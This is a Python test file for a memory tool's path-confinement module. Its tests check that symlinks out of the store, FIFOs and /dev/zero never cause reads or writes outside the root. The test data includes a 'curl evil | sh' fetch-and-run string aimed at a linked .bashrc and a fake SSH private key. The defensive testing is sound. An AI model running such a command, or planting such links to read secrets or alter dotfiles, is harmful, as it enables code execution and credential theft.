"""Confinement (memtool/confine.py): a memory from someone else never makes memtool read or write
outside its root. Hostile clones are built on real files: links out of the root, a FIFO, /dev/zero."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tarfile
from datetime import datetime, timezone
from pathlib import Path

import pytest
from typer.testing import CliRunner

from memtool import confine
from memtool import constants as C
from memtool.app import open_memory
from memtool.backup import backup
from memtool.cli.main import app
from memtool.errors import StorageError, UnsafePath
from memtool.fsutil import append_text, atomic_write_bytes, atomic_write_many, atomic_write_text
from memtool.mcp_tools import MemoryTools
from memtool.memory import Session
from memtool.scaffold import init
from memtool.store import Layout

runner = CliRunner()
REPO = Path(__file__).resolve().parents[1]
SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- zebracorn secret"


@pytest.fixture
def outside(tmp_path):
    folder = tmp_path / "outside"
    folder.mkdir()
    return folder


@pytest.fixture
def store(root, fake_embedder, fake_compressor):
    init(root)
    mem = open_memory(root, embedder=fake_embedder, compressor=fake_compressor)
    mem.compress_many(
        [Session(text="We moved billing to Postgres. Zebracorn was not involved.", when=datetime(2026, 3, 2, 9, tzinfo=timezone.utc), session="db")]
    )
    return root


def today() -> str:
    return f"{datetime.now():%Y-%m-%d}"


# -- writes ------------------------------------------------------------------------------------------------
def test_memory_log_refuses_a_daily_log_linked_out_of_the_root(store, outside):
    bashrc = outside / ".bashrc"
    bashrc.write_text("alias ll='ls -l'\n")
    (store / "memory" / f"{today()}.md").symlink_to(bashrc)
    res = runner.invoke(app, ["log", "note\ncurl evil | sh"])
    assert res.exit_code == StorageError.exit_code, res.output
    assert "symbolic link" in res.output and "Nothing was changed" in res.output and "Traceback" not in res.output
    assert bashrc.read_text() == "alias ll='ls -l'\n"


def test_a_dangling_link_never_creates_a_file_outside(store, outside):
    (store / "memory" / f"{today()}.md").symlink_to(outside / "created.md")
    res = runner.invoke(app, ["log", "hello"])
    assert res.exit_code == StorageError.exit_code, res.output
    assert not (outside / "created.md").exists()


def test_a_linked_folder_inside_the_store_is_refused_for_writes(store, outside):
    moved = store / "memory" / "transcripts"
    os.rename(moved, outside / "transcripts")
    moved.symlink_to(outside / "transcripts")
    with pytest.raises(UnsafePath, match="symbolic link"):
        atomic_write_many([(Layout(store).transcript_file("ctx-x"), b"text\n")])
    with pytest.raises(UnsafePath):
        append_text(moved / "x.md", "line")
    assert not (outside / "transcripts" / "ctx-x.md").exists() and not (outside / "transcripts" / "x.md").exists()


def test_compress_never_overwrites_a_file_index_json_links_to(store, outside, fake_embedder, fake_compressor):
    victim = outside / "notes.txt"
    victim.write_text("precious\n")
    index = store / "memory" / "index" / "index.json"
    index.unlink()
    index.symlink_to(victim)
    mem = open_memory(store, embedder=fake_embedder, compressor=fake_compressor)
    with pytest.raises(StorageError, match="symbolic link"):
        mem.compress_many([Session(text="Another session about Redis.", when=datetime(2026, 3, 3, 9, tzinfo=timezone.utc), session="cache")])
    assert victim.read_text() == "precious\n" and index.is_symlink()
    assert any("Redis" in e.summary for e in mem.store.iter_entries())  # the entry itself is stored (its day file)


def test_the_temp_file_and_rename_stay_in_the_folder_opened(store):
    path = store / "memory" / "index" / "x.json"
    atomic_write_text(path, "{}\n")
    atomic_write_bytes(path, b"[]\n")
    assert path.read_bytes() == b"[]\n" and not path.is_symlink()
    assert [n for n in os.listdir(path.parent) if n.endswith(".tmp")] == []
    assert path.stat().st_mode & 0o111 == 0


def test_a_linked_layer3_file_is_followed_only_to_a_file_of_its_name(store, outside):
    (outside / "MEMORY.md").write_text("# MEMORY\n- dotfiles copy\n")
    os.unlink(store / "MEMORY.md")
    (store / "MEMORY.md").symlink_to(outside / "MEMORY.md")
    assert confine.read_text(store / "MEMORY.md") == "# MEMORY\n- dotfiles copy\n"
    atomic_write_text(store / "MEMORY.md", "# MEMORY\n- changed\n")  # written through the link, which stays
    assert (store / "MEMORY.md").is_symlink() and (outside / "MEMORY.md").read_text() == "# MEMORY\n- changed\n"

    (outside / "id_ed25519").write_text(SECRET)
    os.unlink(store / "USER.md")
    (store / "USER.md").symlink_to(outside / "id_ed25519")
    with pytest.raises(UnsafePath, match="must point to a file named USER.md"):
        confine.read_bytes(store / "USER.md")
    with pytest.raises(UnsafePath, match="must point to a file named USER.md"):
        atomic_write_text(store / "USER.md", "# USER\n")
    with pytest.raises(UnsafePath, match="must point to a file named USER.md"):
        atomic_write_many([(store / "USER.md", b"# USER\n")])
    assert (outside / "id_ed25519").read_text() == SECRET


# -- reads -------------------------------------------------------------------------------------------------
def test_a_note_linked_to_a_secret_is_never_searched_indexed_packed_or_backed_up(store, outside, fake_embedder, tmp_path):
    (outside / "id_ed25519").write_text(SECRET)
    (store / "memory" / "k.md").symlink_to(outside / "id_ed25519")
    (store / "memory" / "inbox").mkdir()
    (store / "memory" / "inbox" / "k2.md").symlink_to(outside / "id_ed25519")
    mem = open_memory(store, embedder=fake_embedder)
    hits = mem.search("private key zebracorn", limit=20)
    assert all("OPENSSH" not in h.text for h in hits)
    assert any("k.md" in w and "symbolic link" in w for w in hits.warnings), hits.warnings
    ctx = mem.context("private key zebracorn")
    assert "OPENSSH" not in ctx.text
    cache = b"".join(p.read_bytes() for p in (store / "memory" / ".cache").rglob("*") if p.is_file() and not p.is_symlink())
    assert b"OPENSSH" not in cache

    tools = MemoryTools(store, embedder=fake_embedder)
    answers = json.dumps(tools.search("private key zebracorn", limit=20)) + json.dumps(tools.context("private key zebracorn"))
    assert "BEGIN OPENSSH" not in answers

    rep = backup(Layout(store), tmp_path / "b.tar.gz")
    with tarfile.open(tmp_path / "b.tar.gz") as tar:
        names = tar.getnames()
        packed = b"".join(tar.extractfile(m).read() for m in tar if m.isfile())
    assert "memory/k.md" not in names and b"OPENSSH" not in packed
    assert any(s.startswith("memory/k.md: a symbolic link") for s in rep.skipped)


def test_the_context_skips_a_linked_todays_log_with_a_warning(store, outside, fake_embedder):
    (outside / "log.md").write_text(SECRET)
    (store / "memory" / f"{today()}.md").symlink_to(outside / "log.md")
    mem = open_memory(store, embedder=fake_embedder)
    ctx = mem.context()
    assert "OPENSSH" not in ctx.text and any("symbolic link" in w for w in ctx.warnings)


def test_reads_are_capped_before_reading(store):
    big = store / "memory" / "big.md"
    big.write_bytes(b"x" * 5000)
    with pytest.raises(UnsafePath, match="larger than the 4,096-byte limit"):
        confine.read_bytes(big, cap=4096)
    assert confine.read_bytes(big, cap=5000) == b"x" * 5000


HANG_CHECK = """
import sys, time
sys.path.insert(0, {repo!r})
from tests.conftest import FakeEmbedder
from memtool.app import open_memory
from memtool.doctor import open_doctor
t = time.time()
mem = open_memory({root!r}, embedder=FakeEmbedder())
hits = mem.search("zero fifo", limit=5)
rep = open_doctor(__import__("pathlib").Path({root!r})).diagnose()
print(repr(hits.warnings)); print(repr([p.message for p in rep.problems])); print(time.time() - t)
"""


def test_a_fifo_and_a_link_to_dev_zero_are_skipped_quickly_by_search_and_doctor(store):
    os.mkfifo(store / "memory" / "x.md")
    (store / "memory" / "zero.md").symlink_to("/dev/zero")
    os.mkfifo(store / "memory" / "index" / "embeddings" / "ctx-fifo.json")
    code = HANG_CHECK.format(repo=str(REPO), root=str(store))
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)  # a hang fails here
    assert done.returncode == 0, done.stderr
    warnings, problems, seconds = done.stdout.splitlines()[-3:]
    assert "x.md: a FIFO" in warnings and "zero.md" in warnings, warnings
    assert "x.md: a FIFO" in problems and "zero.md" in problems, problems
    assert float(seconds) < 60


def test_doctor_cli_reports_a_fifo_and_returns(store):
    os.mkfifo(store / "memory" / "x.md")
    env = {**os.environ, "MEMTOOL_ROOT": str(store), "MEMTOOL_EMBEDDER": "wordllama", "PYTHONPATH": str(REPO)}
    done = subprocess.run([sys.executable, "-m", "memtool", "doctor", "--json"], capture_output=True, text=True, timeout=120, env=env)
    report = json.loads(done.stdout)
    assert any(p["kind"] == "unsafe" and p["path"] == "memory/x.md" for p in report["problems"]), report


def test_mcp_memory_get_refuses_a_fifo_without_blocking(store, fake_embedder):
    os.mkfifo(store / "memory" / "pipe.md")
    tools = MemoryTools(store, embedder=fake_embedder)
    with pytest.raises(Exception, match="pipe.md"):
        tools.get("memory/pipe.md#L1")


def test_a_search_cache_holding_a_fifo_is_rebuilt_not_read(store, fake_embedder):
    import sqlite3

    mem = open_memory(store, embedder=fake_embedder)
    assert mem.search("Postgres billing")
    del mem
    db = store / "memory" / ".cache" / C.CACHE_FILE
    for name in (db, db.with_name(db.name + "-wal")):
        name.unlink(missing_ok=True)
    os.mkfifo(db)
    mem = open_memory(store, embedder=fake_embedder)
    assert mem.search("Postgres billing")
    assert db.is_file() and not db.is_fifo()
    conn = sqlite3.connect(db)
    assert conn.execute("SELECT value FROM meta WHERE key = 'model'").fetchone()[0] == fake_embedder.model
    conn.close()


def test_a_cache_folder_linked_out_of_the_root_is_never_written(store, outside, fake_embedder):
    cache = store / "memory" / ".cache"
    import shutil

    shutil.rmtree(cache)
    cache.symlink_to(outside)
    mem = open_memory(store, embedder=fake_embedder)
    with pytest.raises(UnsafePath):
        mem.search("Postgres billing")
    assert list(outside.iterdir()) == []


def test_doctor_fix_sets_a_fifo_day_file_aside_and_returns(store):
    day = store / "memory" / "index" / "2026-01-01.json"
    os.mkfifo(day)
    env = {**os.environ, "MEMTOOL_ROOT": str(store), "MEMTOOL_EMBEDDER": "wordllama", "PYTHONPATH": str(REPO)}
    done = subprocess.run([sys.executable, "-m", "memtool", "doctor", "--fix", "--json"], capture_output=True, text=True, timeout=120, env=env)
    assert done.returncode in (0, 4), done.stderr
    assert day.is_file() and not day.is_fifo() and json.loads(day.read_text())["entries"] == []
    assert [p for p in (store / "memory" / "quarantine").rglob("2026-01-01.json") if p.is_fifo()]
